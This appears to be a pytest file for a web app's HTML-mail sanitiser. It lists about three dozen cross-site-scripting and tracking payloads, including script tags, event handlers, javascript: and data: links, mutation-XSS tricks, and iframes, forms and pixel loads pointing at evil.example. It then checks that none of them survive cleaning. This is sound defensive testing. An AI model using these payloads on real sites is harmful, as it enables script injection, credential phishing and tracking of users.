"""What strangers put into HTML mail does nothing in our pages."""

import re

import pytest
from lxml import html as markup

from api.views.mail_html import cleaned

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
    '<div style="background:url(https://evil.example/pixel)">x</div>',
    '<p style="position:fixed;inset:0">over everything</p>',
    '<table background="https://evil.example/pixel"><tr><td background="https://evil.example/p">x</td></tr></table>',
    '<img src="https://evil.example/pixel.gif"><picture><source srcset="https://evil.example/x"></picture>',
    '<video src="https://evil.example" poster="https://evil.example" autoplay></video><audio src="https://evil.example">',
    '<body onload=alert(1)><p onmouseover="alert(1)">x</p>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template><xss onfocus=alert(1) tabindex=1 autofocus>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>",
    '<a id="search" name="body" href="//evil.example">x</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<button formaction="javascript:alert(1)">x</button><isindex action=javascript:alert(1)>',
    '<p hx-get="/sign-out" hx-trigger="load" data-hx-on:load="alert(1)">x</p>',
    "</div></body></html><script>alert(1)</script>",
    "<" * 5000,
    "<b>" * 3000,
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
_HARMLESS_ATTRIBUTES = {
    "align", "dir", "lang", "title", "valign", "href", "rel", "target", "colspan", "rowspan", "width", "border",
    "cellpadding", "cellspacing", "color", "size", "start", "type",
}  # fmt: skip
_FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "meta", "base", "link", "img", "svg", "math",
    "video", "audio", "source", "picture", "template", "noscript",
}  # fmt: skip


@pytest.mark.parametrize("mail", HOSTILE)
def test_nothing_runs_and_nothing_is_loaded(mail: str) -> None:
    shown = markup.fragment_fromstring(f"<div>{cleaned(mail)}</div>".replace("\x00", ""))
    for element in shown.iter():
        assert isinstance(element.tag, str), "a comment or an instruction is left"
        assert element.tag not in _FORBIDDEN_TAGS
        assert set(element.attrib) <= _HARMLESS_ATTRIBUTES, dict(element.attrib)
        if "href" in element.attrib:
            assert re.match(r"(https?:|mailto:|tel:|//|/|#|[^:]*$)", element.attrib["href"])
            assert element.attrib["target"] == "_blank"
            assert "noopener" in element.attrib["rel"]


def test_what_people_write_stays() -> None:
    mail = '<p>Dear <b>team</b>,</p><table><tr><td colspan="2">4 × DRL</td></tr></table><a href="https://shop.example">shop</a>'
    shown = cleaned(mail)
    for part in ("<b>team</b>", 'colspan="2"', 'href="https://shop.example"', "4 × DRL"):
        assert part in shown
